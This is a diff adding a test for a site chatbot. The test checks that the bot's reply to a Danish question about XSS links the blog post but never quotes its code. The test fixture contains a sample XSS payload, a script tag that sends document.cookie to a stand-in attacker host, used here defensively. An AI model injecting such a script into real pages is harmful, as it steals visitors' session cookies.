@@ -110,3 +110,21 @@ describe("Swedish and Norwegian practice questions", () => {
     expect(reply.text).toContain("(/blog/mfa-den-billigste-sikkerhed)");
   });
 });
+
+describe("what a reply quotes from a post", () => {
+  const XSS = post("xss-naar-en-kommentar-bliver-et-angreb", "XSS: Når en kommentar bliver til et angreb", ["XSS", "webshop"], [
+    "Cross-site scripting, forkortet XSS, opstår, når en hjemmeside viser brugerens input direkte som HTML.",
+    "Fantastisk produkt! <script>fetch('https://angriber.example/stjael?c=' + document.cookie)</script>",
+    "Hvis siden indsætter anmeldelsen som HTML, kører scriptet i browseren hos alle, der læser anmeldelsen.",
+  ]);
+  const xssIndex = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs([XSS])], vocabulary);
+  const playXss = chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => xssIndex, today: { year: 2026, month: 11, day: 28 } });
+
+  it("quotes no line of code as a sentence", async () => {
+    const reply = await playXss("har i skrevet noget om xss på webshoppen?");
+    expect(reply.text).toContain("(/blog/xss-naar-en-kommentar-bliver-et-angreb)");
+    expect(reply.text).not.toMatch(/<script|document\.cookie/);
+    // Each sentence once, though the excerpt repeats the lead.
+    expect(reply.text.match(/opstår, når en hjemmeside/g)).toHaveLength(1);
+  });
+});
